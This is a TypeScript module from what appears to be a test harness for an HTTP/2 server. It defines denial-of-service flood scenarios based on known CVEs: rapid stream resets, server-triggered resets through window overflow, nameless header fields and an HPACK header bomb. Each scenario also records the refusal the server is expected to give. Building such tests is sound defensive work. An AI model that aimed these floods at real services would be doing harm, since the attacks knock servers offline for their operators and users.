import type { Attack } from '../attack.ts';
import type { Attacker } from '../attacker.ts';
import {
  data,
  echoRequest,
  Flag,
  headers,
  literal,
  message,
  requestBlock,
  reset,
  windowUpdate,
} from '../frames.ts';

const ECHO = requestBlock('Echo');
const REQUEST = message(echoRequest('hello'));
const FLOOD = ['kun_wire_refusals_total reset-flood'];
/** Of one connection, as callers of a broken client have been seen to reset. */
const PER_SECOND = 900;

/** Calls that are opened for nothing. */
export const resets: readonly Attack[] = [
  {
    name: 'rapid-reset',
    what: '6 connections open and reset 900 calls a second each, and come back a second after they were cut (CVE-2023-44487)',
    refused: FLOOD,
    cut: true,
    cpuShare: 0.1,
    run: (campaign) =>
      campaign.flood(6, PER_SECOND, (attacker) => openAnd(attacker, reset), { backoffMs: 1000 }),
  },
  {
    name: 'rapid-reset-returning',
    what: 'the same, and come back at once',
    refused: FLOOD,
    cut: true,
    run: (campaign) => campaign.flood(6, PER_SECOND, (attacker) => openAnd(attacker, reset)),
  },
  {
    name: 'rapid-reset-whole',
    what: 'the same with whole requests, some of which handlers have begun to answer',
    refused: FLOOD,
    cut: true,
    run: (campaign) =>
      campaign.flood(6, PER_SECOND, (attacker) => {
        const id = attacker.stream();
        attacker.send(headers(id, ECHO), data(id, REQUEST, Flag.endStream), reset(id));
      }),
  },
  {
    name: 'made-you-reset',
    what: '6 connections have the server reset 900 calls a second each, by a window that overflows (CVE-2025-8671)',
    refused: FLOOD,
    cut: true,
    run: (campaign) =>
      campaign.flood(6, PER_SECOND, (attacker) => openAnd(attacker, (id) => windowUpdate(id, 2 ** 31 - 1))),
  },
  {
    name: 'malformed-calls',
    what: '6 connections send 900 calls a second each with a field that has no name (CVE-2019-9516)',
    refused: FLOOD,
    cut: true,
    run: (campaign) =>
      campaign.flood(6, PER_SECOND, (attacker) => attacker.send(headers(attacker.stream(), NAMELESS))),
  },
  {
    name: 'header-bombs',
    what: '6 connections send 900 header blocks a second each of 12 000 references to one field of 4 KB',
    refused: FLOOD,
    cut: true,
    growthMiB: 128,
    run: (campaign) =>
      campaign.flood(6, PER_SECOND, (attacker) => attacker.send(headers(attacker.stream(), BOMB)), {
        begin: (attacker) => attacker.greet().send(headers(attacker.stream(), LARGE_FIELD)),
      }),
  },
];

function openAnd(attacker: Attacker, next: (id: number) => Buffer): void {
  const id = attacker.stream();
  attacker.send(headers(id, ECHO), next(id));
}

const NAMELESS = Buffer.concat([ECHO, literal('', '')]);
/** Leaves a field of 4 KB in the table, behind which 0xbe points to it with one byte. */
const LARGE_FIELD = Buffer.concat([ECHO, literal('a', 'x'.repeat(4000), 0x40)]);
const BOMB = Buffer.concat([ECHO, Buffer.alloc(12_000, 0xbe)]);
